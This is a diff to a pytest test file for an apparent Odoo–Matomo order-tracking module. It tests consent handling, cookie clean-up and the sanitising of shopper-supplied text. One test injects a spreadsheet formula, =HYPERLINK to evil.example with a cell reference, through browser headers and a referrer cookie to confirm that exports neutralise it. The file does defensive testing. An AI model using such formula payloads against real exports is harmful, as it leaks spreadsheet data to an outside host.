@@ -7,6 +7,7 @@ from datetime import timedelta
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from matomo_order_tracking.tools import shopper
 from matomo_order_tracking.tools.shopper import (
     Consent,
     HttpRequest,
@@ -62,7 +63,11 @@ AGREED = {"mtm_consent": "1763000000000"}
     [
         # The policy "never" asks nobody.
         ("never", {}, AGREED, True, False, "never"),
-        ("never", {"DNT": "1"}, {}, None, False, "never"),
+        ("never", {}, {}, None, False, "never"),
+        # It is no refusal of the shopper, who may refuse all the same.
+        ("never", {"DNT": "1"}, {}, None, False, "do_not_track"),
+        ("never", {}, REFUSED, None, False, "matomo_cookie"),
+        ("never", {}, {}, False, False, "cookie_bar"),
         # A signal of the browser comes before every click.
         ("cookie_bar", {"DNT": "1"}, AGREED, True, False, "do_not_track"),
         ("cookie_bar", {"Sec-GPC": "1"}, {}, True, False, "do_not_track"),
@@ -127,6 +132,40 @@ def test_answer_in_the_cookie_bar(cookie, is_answered):
 
 def test_no_answer_in_the_cookie_bar():
     assert not is_cookie_bar_answered({})
+
+
+@pytest.mark.parametrize(
+    ("headers", "cookies", "may_refuse"),
+    [
+        ({}, {}, False),
+        ({"DNT": "0", "Sec-GPC": "?1"}, {}, False),
+        ({"DNT": "1"}, {}, True),
+        ({"Sec-GPC": "1"}, {}, True),
+        ({}, REFUSED, True),
+        ({}, AGREED, False),
+        ({}, {"website_cookies_bar": '{"required":true,"optional":false}'}, True),
+        ({}, {"website_cookies_bar": '{"required":true,"optional":true}'}, False),
+        ({}, {"website_cookies_bar": "{}"}, True),
+        ({}, {"website_cookies_bar": "[" * 100_000}, False),
+    ],
+)
+def test_may_refuse(headers, cookies, may_refuse):
+    assert shopper.may_refuse(headers, cookies) is may_refuse
+
+
+@pytest.mark.parametrize(
+    ("answer", "source", "is_refusal"),
+    [
+        (False, "cookie_bar", True),
+        (False, "do_not_track", True),
+        (False, "never", False),
+        (True, "cookie_bar", False),
+        (None, "not_answered", False),
+        (None, None, False),
+    ],
+)
+def test_is_refusal(answer, source, is_refusal):
+    assert Consent(answer, source).is_refusal is is_refusal
 
 
 # === METADATA === #
@@ -301,6 +340,28 @@ def test_strangers_write_nothing_but_short_text(
     for name, limit in LIMITS.items():
         text = visit.metadata.get(name, False)
         assert text is False or (0 < len(text) <= limit and "\x00" not in text)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r\n+", " \x00@", "=-="])
+def test_a_shoppers_text_is_no_formula(start):
+    """An exported order began with the formula that a stranger sent as their browser.
+
+    Odoo writes a text that begins with "=" into an XLSX file as a formula.
+    """
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A2)'
+    request = make_request(
+        {"User-Agent": formula, "Accept-Language": formula},
+        {"_pk_ref.1.1fff": json.dumps([formula, formula, 1_762_999_999, ""])},
+    )
+    metadata = read_metadata(request, POLICY)
+    attribution = metadata["matomo_attribution_info"]
+    for text in (
+        metadata["matomo_user_agent"],
+        metadata["matomo_accept_language"],
+        attribution["campaign"],
+        attribution["keyword"],
+    ):
+        assert text.startswith("HYPERLINK")
 
 
 # === WHAT THE ORDER KEEPS === #
@@ -562,3 +623,29 @@ def test_visitor_cookie(scheme):
         replace(POLICY, idsite=7),
     )
     assert metadata["matomo_visitor_id"] == VISITOR
+
+
+FOLLOWING = ("_pk_id.7.1fff", "_pk_ref.7.1fff", "_pk_ses.7.62df")
+
+
+@pytest.mark.parametrize(
+    ("host", "domains"),
+    [
+        ("shop.example.com:8069", ["shop.example.com", "example.com"]),
+        ("Example.com", ["example.com"]),
+        ("localhost:8069", []),
+        ("127.0.0.1:8069", []),
+        ("[::1]:8069", []),
+        ("evil.example;x=1", []),
+        ("", []),
+    ],
+)
+def test_ended_cookies(host, domains):
+    """Cookies of matomo.js end wherever it has set them; others stay."""
+    others = ("_pk_id.8.1fff", "session_id", "mtm_consent_removed", "_pk_id.7.<x>")
+    request = make_request(cookies=dict.fromkeys([*FOLLOWING, *others], "x"), host=host)
+    ended = list(shopper.prepare_ended_cookies(request, 7))
+    assert {(each["key"], each["domain"]) for each in ended} == {
+        (name, domain) for name in FOLLOWING for domain in [None, *domains]
+    }
+    assert all(each["max_age"] == 0 for each in ended)
